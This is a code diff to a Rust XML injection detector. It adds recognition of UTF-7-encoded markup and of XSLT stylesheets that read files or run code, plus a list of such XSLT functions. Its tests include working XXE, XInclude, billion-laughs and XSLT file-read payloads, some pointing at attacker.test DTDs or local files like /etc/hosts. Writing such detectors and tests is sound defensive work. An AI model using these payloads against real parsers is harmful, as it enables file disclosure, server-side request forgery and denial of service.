@@ -6,20 +6,22 @@
 //! the value with evasions undone and lower-cased (so `<!doctype`, `<!DocType`, `%`-encoded and NUL-padded UTF-16
 //! forms all read alike), and again on the value as the parser reads it when the two differ (an entity value whose
 //! `&quot;` the normaliser decoded would otherwise end the literal early). Whitespace is allowed wherever XML allows
-//! it and also between `<!` and the keyword.
+//! it and also between `<!` and the keyword; `+ADw-` (`<` in UTF-7) opens markup like `<`.
 //!
 //! What each level reports:
 //! - **Low**: an external entity (`<!ENTITY x SYSTEM "…">`, `PUBLIC`, parameter entities `<!ENTITY % p SYSTEM …>`,
 //!   wherever it appears, also nested in another entity's value or as a fragment without a DOCTYPE); an external DTD
 //!   (`<!DOCTYPE x SYSTEM "…">` or `PUBLIC`) other than the W3C's own DTDs (XHTML, SVG: never fetched from an
 //!   attacker, and common in benign documents); an XInclude element together with the XInclude namespace.
-//! - **Medium** (recommended) adds: an XInclude element (`<xi:include`, any prefix) without its namespace;
+//! - **Medium** (recommended) adds: an XInclude element (`<xi:include`, any prefix) without its namespace; an XSLT
+//!   stylesheet that reads files or URLs or runs code (`document(`, `unparsed-text(`, `xsl:include`, `xsl:import`,
+//!   `php:function`);
 //!   parameter-entity references (`%p;`) inside a DTD and parameter entities with an internal value (the building
 //!   blocks of out-of-band XXE); entity-expansion bombs (an entity whose value references other entities twice or
 //!   more, as in "billion laughs", or a document referencing declared entities 32 times or more).
 //! - **High** adds weak signals: any DOCTYPE with an internal subset or an internal entity declaration (`<!ENTITY foo
 //!   "bar">`, the usual probe for entity processing), an external DTD from the W3C, the XInclude namespace alone, a
-//!   declared encoding other than the ASCII-compatible ones (`utf-16`, `utf-32`, `utf-7`, `ucs-*`, EBCDIC code
+//!   XSLT stylesheet, a declared encoding other than the ASCII-compatible ones (`utf-16`, `utf-32`, `utf-7`, `ucs-*`, EBCDIC code
 //!   pages: used to hide markup from filters), and a body that is itself UTF-16 (byte-order mark or NUL-interleaved).
 //!
 //! A plain XML document, `<!DOCTYPE html>`, an XHTML or SVG DOCTYPE naming the W3C's DTD, and prose with `&` or `%`
@@ -87,6 +89,8 @@ struct State {
     references: u32,
     /// The XInclude namespace URI was seen.
     xinclude_namespace: bool,
+    /// An XSLT stylesheet's root element was seen.
+    xslt: bool,
 }
 
 impl State {
@@ -125,6 +129,8 @@ fn scan(text: &[u8]) -> Level {
         }
         i = match c {
             b'<' => markup(text, i + 1, &mut st),
+            // `<` in UTF-7, for documents declared in it that a parser decodes before reading markup.
+            b'+' if word_at(text, i, b"+adw-") => markup(text, i + 5, &mut st),
             b'&' => reference(text, i + 1, b'&', &mut st),
             b'%' => reference(text, i + 1, b'%', &mut st),
             b']' if st.literal.is_none() => {
@@ -134,8 +140,15 @@ fn scan(text: &[u8]) -> Level {
             _ => i + 1,
         };
     }
+    if st.xslt && st.level() < Level::Medium && XSLT_ACCESS.iter().any(|f| memchr::memmem::find(text, f).is_some()) {
+        st.report(Level::Medium);
+    }
     st.level()
 }
+
+/// What an XSLT stylesheet calls to read files or URLs, or to run code (compared in lower case).
+const XSLT_ACCESS: [&[u8]; 6] =
+    [b"document(", b"unparsed-text(", b"php:function", b"xsl:include", b"xsl:import", b"system-property("];
 
 /// Lexes the markup after a `<` at `at`; returns where to go on (always past `at - 1`).
 fn markup(text: &[u8], at: usize, st: &mut State) -> usize {
@@ -162,6 +175,10 @@ fn markup(text: &[u8], at: usize, st: &mut State) -> usize {
             let name = text.get(at..end).unwrap_or_default();
             if name.len() > 8 && ends_with_ignore_case(name, b":include") {
                 st.report(if st.xinclude_namespace { Level::Low } else { Level::Medium });
+            }
+            if ends_with_ignore_case(name, b":stylesheet") || ends_with_ignore_case(name, b":transform") {
+                st.xslt = true;
+                st.report(Level::High);
             }
             end
         }
@@ -377,6 +394,7 @@ mod tests {
             r#"<!DOCTYPE r [ <!ENTITY % p SYSTEM "http://attacker.test/x.dtd"> %p; ]>"#,
             "<!entity   e\n\tsystem 'expect://id'>",
             "<!DocType r [<!EnTiTy e SyStEm \"php://filter/resource=index.php\">]>",
+            "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-!DOCTYPE r +AFs-+ADw-!ENTITY e SYSTEM +ACI-file:///etc/hosts+ACI-+AD4-",
             "<! ENTITY e SYSTEM \"/proc/self/environ\">",
             r#"<!DOCTYPE r SYSTEM "http://attacker.test/evil.dtd"><r/>"#,
             r#"<!DOCTYPE r PUBLIC "-//A//B//EN" "http://attacker.test/evil.dtd">"#,
@@ -394,6 +412,7 @@ mod tests {
             r#"<doc><xi:include href="secret.txt" parse="text"/></doc>"#,
             r#"<!DOCTYPE r [<!ENTITY % a "<!ELEMENT r ANY>"> %a;]>"#,
             r#"<!DOCTYPE b [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><b>&c;</b>"#,
+            r#"<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="unparsed-text('/etc/hosts')"/></xsl:template></xsl:stylesheet>"#,
         ] {
             assert_eq!(level(text), Some(Sensitivity::Medium), "{text}");
         }
@@ -408,6 +427,7 @@ mod tests {
             r#"<!DOCTYPE r [<!ELEMENT r ANY>]><r/>"#,
             r#"<?xml version="1.0" encoding="UTF-16"?><r/>"#,
             r#"<?xml version='1.0' encoding='utf-7'?><r/>"#,
+            r#"<xsl:stylesheet version="1.0"><xsl:template match="/"><b><xsl:value-of select="name"/></b></xsl:template></xsl:stylesheet>"#,
             r#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">"#,
         ] {
             assert_eq!(level(text), Some(Sensitivity::High), "{text}");
